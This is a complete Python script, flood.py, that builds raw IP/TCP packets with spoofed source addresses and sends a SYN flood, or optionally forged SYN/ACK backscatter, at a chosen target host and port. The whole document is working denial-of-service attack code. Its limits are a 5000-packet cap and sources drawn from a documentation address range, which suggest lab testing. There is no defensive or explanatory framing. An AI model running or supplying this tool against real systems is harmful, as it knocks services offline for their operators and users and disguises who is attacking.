#!/usr/bin/env python3
"""A small SYN flood from many senders that are nobody: flood.py TARGET PORT COUNT SECONDS [answers].

`answers`: SYN/ACKs from that port, as of servers that somebody flooded in the target's name.
"""
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main():
    target, port, count, seconds = sys.argv[1], *map(int, sys.argv[2:5])
    destination = ipaddress.ip_address(target).packed
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answers = sys.argv[5:] == ["answers"]
    for _ in range(min(count, 5000)):
        source = ipaddress.ip_address(f"198.51.100.{random.randrange(128, 192)}").packed
        numbers = (random.getrandbits(32), random.getrandbits(32) if answers else 0)
        ports = (random.randrange(1024, 65536), port)
        fields = (*(reversed(ports) if answers else ports), *numbers, 0x6012 if answers else 0x6002, 65535)
        mss = struct.pack("!BBH", 2, 4, 1460)
        tcp = struct.pack("!HHIIHHHH", *fields, 0, 0) + mss
        pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        head = (0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0)
        out.sendto(struct.pack("!BBHHHBBH", *head) + source + destination + tcp, (target, 0))
        time.sleep(seconds / count)


main()
